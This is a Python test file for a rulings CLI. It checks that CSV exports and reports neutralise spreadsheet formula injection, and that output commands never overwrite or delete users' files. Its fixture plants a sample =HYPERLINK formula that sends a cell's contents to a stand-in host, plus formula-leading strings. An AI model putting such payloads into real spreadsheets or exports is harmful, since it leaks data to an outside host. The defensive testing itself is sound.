"""Exports and reports never delete or overwrite what they did not write, and their CSV files are
safe to open in a spreadsheet (issue #10, High 1, Medium 8).

A seed dataset whose rulings start like spreadsheet formulas; the real command (click runner or a
subprocess) on real folders.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner
from test_translation_seeds import build_seed_dataset

from reports.exports.spreadsheet import FORMULA_START, restore
from rulings.cli import cli

REPO = Path(__file__).resolve().parents[2]
RULINGS = Path(sys.executable).with_name("rulings")
EVIL_EN = '=HYPERLINK("http://evil.example/?"&A1,"click") '
EVIL_IT = ("-2+3 ", "@SUM(1) ")


@pytest.fixture(scope="module")
def dataset(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The seed dataset, with an English ruling of an Italian file starting with ``=`` and two
    Italian rulings starting with ``-`` and ``@``."""
    root = tmp_path_factory.mktemp("safety")
    seeds = root / "seeds"
    shutil.copytree(REPO / "fixtures" / "seeds", seeds)
    f = seeds / "001_047a4b439f94d352.txt"
    text = f.read_text(encoding="utf-8")
    text = text.replace("After Summon: G.F.", EVIL_EN + "After Summon: G.F.", 1)
    text = text.replace("Un'abilità capitolo", EVIL_IT[0] + "Un'abilità capitolo", 1)
    text = text.replace("Mentre una Saga", EVIL_IT[1] + "Mentre una Saga", 1)
    f.write_text(text, encoding="utf-8")
    return build_seed_dataset(root, seeds)


def invoke(*args: str | Path) -> tuple[int, str]:
    res = CliRunner().invoke(cli, [str(a) for a in args])
    return res.exit_code, res.output


def csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


# ------------------------------------------------------------------------------ formula cells


def test_csv_export_neutralises_formula_cells(dataset: Path, tmp_path: Path) -> None:
    code, out = invoke("export", dataset, "--format", "csv", "--out", tmp_path / "csv")
    assert code == 0, out
    cells = [c for name in ("rulings", "aligned", "cards", "quarantine")
             for c in csv_cells(tmp_path / "csv" / f"{name}.csv")]
    assert not [c for c in cells if c[:1] in FORMULA_START]
    quoted = [c for c in cells if c[:1] == "'" and c[1:2] in FORMULA_START]
    assert any(c.startswith("'" + EVIL_EN) for c in quoted)
    assert any(c.startswith("'" + EVIL_IT[1]) for c in quoted)
    assert {restore(c) for c in quoted} >= {c[1:] for c in quoted}
    card = (tmp_path / "csv" / "README.md").read_text(encoding="utf-8")
    assert "## CSV and spreadsheets" in card and "formula injection" in card


def test_json_parquet_and_tsv_keep_the_texts(dataset: Path, tmp_path: Path) -> None:
    for fmt in ("jsonl", "parquet"):
        code, out = invoke("export", dataset, "--format", fmt, "--out", tmp_path / fmt)
        assert code == 0, out
    texts = [json.loads(line)["text_raw"] for line in
             (tmp_path / "jsonl" / "rulings.jsonl").read_text(encoding="utf-8").splitlines()]
    assert any(t.startswith(EVIL_EN) for t in texts)
    table = pq.read_table(tmp_path / "parquet" / "rulings.parquet")
    assert table.column("text_raw").to_pylist() == texts
    assert "## CSV and spreadsheets" not in (tmp_path / "parquet" / "README.md").read_text(
        encoding="utf-8")


def test_findings_csv_neutralises_formula_cells(dataset: Path, tmp_path: Path) -> None:
    out = tmp_path / "report"
    code, text = invoke("report", "translation", dataset, "--out", out)
    assert code == 0, text
    cells = csv_cells(out / "findings.csv")
    assert not [c for c in cells if c[:1] in FORMULA_START]
    assert any(c.startswith("'" + EVIL_EN) for c in cells)
    doc = json.loads((out / "findings.json").read_text(encoding="utf-8"))
    assert any(f["text"].startswith(EVIL_EN) for f in doc["findings"])
    assert "leading &#x27; so that a spreadsheet" in (out / "index.html").read_text(
        encoding="utf-8") or "leading ' so that a spreadsheet" in (out / "index.html").read_text(
        encoding="utf-8")


# ----------------------------------------------------------------------------------- export


def user_tree(root: Path) -> dict[str, str]:
    files = {"README.md": "# my project\n", "src/app.py": "print(1)\n",
             ".git/HEAD": "ref: refs/heads/main\n"}
    for rel, text in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text, encoding="utf-8")
    return files


def assert_kept(root: Path, files: dict[str, str]) -> None:
    for rel, text in files.items():
        assert (root / rel).read_text(encoding="utf-8") == text, rel


def test_export_to_dot_never_wipes_the_working_directory(dataset: Path, tmp_path: Path) -> None:
    proj = tmp_path / "proj"
    files = user_tree(proj)
    res = subprocess.run([str(RULINGS), "export", str(dataset), "--format", "csv", "--out", "."],
                         cwd=proj, capture_output=True, text=True, timeout=300)
    assert res.returncode == 2, res.stderr
    assert "src/" in res.stderr and ".git/" in res.stderr and "Nothing was deleted" in res.stderr
    assert_kept(proj, files)
    assert sorted(p.name for p in proj.iterdir()) == [".git", "README.md", "src"]


def test_export_replaces_its_own_output_only(dataset: Path, tmp_path: Path) -> None:
    out = tmp_path / "exp"
    assert invoke("export", dataset, "--format", "csv", "--out", out)[0] == 0
    marker = json.loads((out / ".rulings-output.json").read_text(encoding="utf-8"))
    assert marker["kind"] == "export" and "rulings.csv" in marker["written"]
    assert invoke("export", dataset, "--format", "jsonl", "--out", out)[0] == 0  # replaced
    assert not (out / "rulings.csv").exists() and (out / "rulings.jsonl").is_file()
    (out / "mine.txt").write_text("keep", encoding="utf-8")
    code, text = invoke("export", dataset, "--format", "csv", "--out", out)
    assert code == 2 and "mine.txt" in text
    assert (out / "mine.txt").read_text(encoding="utf-8") == "keep"
    assert (out / "rulings.jsonl").is_file()  # the previous export is left as it was


def test_export_of_an_earlier_version_is_replaced(dataset: Path, tmp_path: Path) -> None:
    out = tmp_path / "exp"
    assert invoke("export", dataset, "--format", "csv", "--out", out)[0] == 0
    (out / ".rulings-output.json").unlink()  # what versions before the marker left
    assert invoke("export", dataset, "--format", "parquet", "--out", out)[0] == 0
    assert (out / "rulings.parquet").is_file() and not (out / "rulings.csv").exists()
    (out / ".rulings-output.json").unlink()
    (out / "src").mkdir()
    (out / "src" / "x.py").write_text("x", encoding="utf-8")
    code, text = invoke("export", dataset, "--format", "csv", "--out", out)
    assert code == 2 and "src/" in text and (out / "src" / "x.py").is_file()


def test_export_out_and_dataset_may_not_overlap(dataset: Path, tmp_path: Path) -> None:
    code, text = invoke("export", dataset, "--format", "csv", "--out", dataset / "export")
    assert code == 2 and "lies inside the dataset" in text
    assert not (dataset / "export").exists()
    parent = tmp_path / "parent"
    shutil.copytree(dataset, parent / "ds")
    code, text = invoke("export", parent / "ds", "--format", "csv", "--out", parent)
    assert code == 2 and "contains the dataset" in text
    assert (parent / "ds" / "_build.json").is_file()


def test_export_refuses_a_folder_of_another_output(dataset: Path, tmp_path: Path) -> None:
    out = tmp_path / "r"
    assert invoke("report", "translation", dataset, "--out", out)[0] == 0
    (out / "extra.txt").write_text("x", encoding="utf-8")
    code, text = invoke("export", dataset, "--format", "csv", "--out", out)
    assert code == 2 and "extra.txt" in text and (out / "index.html").is_file()


# ---------------------------------------------------------------------------------- reports


def test_translation_report_never_overwrites_a_users_file(dataset: Path,
                                                           tmp_path: Path) -> None:
    site = tmp_path / "site"
    site.mkdir()
    (site / "index.html").write_text("<h1>my site</h1>", encoding="utf-8")
    (site / "CNAME").write_text("example.org", encoding="utf-8")
    code, text = invoke("report", "translation", dataset, "--out", site)
    assert code == 2 and "index.html" in text
    assert (site / "index.html").read_text(encoding="utf-8") == "<h1>my site</h1>"
    assert sorted(p.name for p in site.iterdir()) == ["CNAME", "index.html"]
    (site / "index.html").unlink()
    assert invoke("report", "translation", dataset, "--out", site)[0] == 0
    assert invoke("report", "translation", dataset, "--out", site)[0] == 0  # its own: rewritten
    assert (site / "CNAME").read_text(encoding="utf-8") == "example.org"


def test_report_temporary_files_never_clobber_a_users_file(dataset: Path,
                                                           tmp_path: Path) -> None:
    out = tmp_path / "r"
    out.mkdir()
    for name in ("findings.csv.tmp", "index.html.tmp", "findings.json.tmp"):
        (out / name).write_text("user data", encoding="utf-8")
    assert invoke("report", "translation", dataset, "--out", out)[0] == 0
    for name in ("findings.csv.tmp", "index.html.tmp", "findings.json.tmp"):
        assert (out / name).read_text(encoding="utf-8") == "user data"
    assert not [p for p in out.iterdir() if p.name.startswith(".") and p.suffix == ".tmp"]


def test_translation_report_of_an_earlier_version_is_rewritten(dataset: Path,
                                                               tmp_path: Path) -> None:
    out = tmp_path / "r"
    assert invoke("report", "translation", dataset, "--out", out)[0] == 0
    # what a version without a marker wrote: no marker, and a page whose policy did not pin
    # its script yet
    (out / ".rulings-output.json").unlink()
    page = (out / "index.html").read_text(encoding="utf-8")
    pinned = re.search(r"script-src &#x27;sha256-[^&]*&#x27;", page)
    assert pinned is not None
    (out / "index.html").write_text(page.replace(pinned.group(0),
                                                 "script-src &#x27;unsafe-inline&#x27;", 1)
                                    .replace("; base-uri &#x27;none&#x27;; form-action "
                                             "&#x27;none&#x27;", "", 1), encoding="utf-8")
    assert invoke("report", "translation", dataset, "--out", out)[0] == 0
    assert (out / ".rulings-output.json").is_file()
    assert (out / "index.html").read_text(encoding="utf-8") == page
    # a page of this version whose marker was lost is the report's own too
    (out / ".rulings-output.json").unlink()
    assert invoke("report", "translation", dataset, "--out", out)[0] == 0
    assert (out / ".rulings-output.json").is_file()


def test_conformance_report_never_overwrites_a_users_index(tmp_path: Path) -> None:
    # the commands in this process (CliRunner): what is tested is the output folder, not the process
    run = tmp_path / "ref.jsonl"
    res = CliRunner().invoke(cli, ["run", str(REPO / "tests" / "reports" / "data" / "cases"),
                                   "-e", "reference", "--jsonl", str(run), "-q"])
    assert res.exit_code == 0, res.output
    site = tmp_path / "site"
    site.mkdir()
    (site / "index.html").write_text("<h1>my site</h1>", encoding="utf-8")
    res = CliRunner().invoke(cli, ["report", "conformance", str(run), "--out", str(site)])
    assert res.exit_code == 2 and "index.html" in res.stderr
    assert (site / "index.html").read_text(encoding="utf-8") == "<h1>my site</h1>"
    assert not (site / "history.parquet").exists()
    dash = tmp_path / "dash"
    for _ in range(2):
        res = CliRunner().invoke(cli, ["report", "conformance", str(run), "--out", str(dash)])
        assert res.exit_code == 0, res.output
    marker = json.loads((dash / ".rulings-output.json").read_text(encoding="utf-8"))
    assert sorted(marker["written"]) == ["history.parquet", "index.html"]
    (dash / ".rulings-output.json").unlink()  # a dashboard of an earlier version
    res = CliRunner().invoke(cli, ["report", "conformance", str(run), "--out", str(dash)])
    assert res.exit_code == 0, res.output
